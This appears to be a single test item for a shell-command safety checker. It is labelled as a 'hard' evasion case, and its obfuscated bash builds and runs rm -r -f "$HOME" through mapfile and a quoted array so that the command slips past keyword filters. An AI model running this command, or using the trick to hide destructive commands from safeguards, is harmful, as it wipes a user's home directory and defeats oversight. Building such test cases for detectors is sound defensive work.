# evasion: the command line is read into an array by mapfile from a process substitution and run quoted, "${a[@]}", one word per element
# grade: hard; does: delete
mapfile -t step < <(printf '%s\n' r"m" -r -f "$HOME")
"${step[@]}"
